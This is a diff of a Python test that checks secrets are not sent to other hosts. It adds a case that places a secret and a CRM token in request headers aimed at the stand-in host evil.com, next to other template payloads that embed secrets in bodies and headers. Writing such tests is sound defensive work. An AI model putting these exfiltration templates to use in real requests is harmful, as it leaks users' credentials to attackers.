@@ -108,7 +108,10 @@ def test_a_secret_is_sent_to_no_other_host(ports: FakePorts, url: str) -> None:
         {"body_type": "form", "body": "t={{ secret.crm_token }}"},
         {"body_type": "text", "body": "{{ secret.crm_token }}"},
         {"body_type": "text", "body": "{{ secret['crm_token'] }}"},
-        {"headers": {"X-A": "{{ secret }}"}},
+        {
+            "url": "https://evil.com/",
+            "headers": {"X-A": "{{ secret }}", "X-B": "{{ secret.crm_token }}"},
+        },
         {"headers": {"X-A": "{% for a in secret %}{{ a }}{% endfor %}"}},
         {"headers": {"X-A": "{{ secret.crm_token | upper }}"}},
         {"headers": {"X-A": "{{ secret.webhook-signing }}"}},
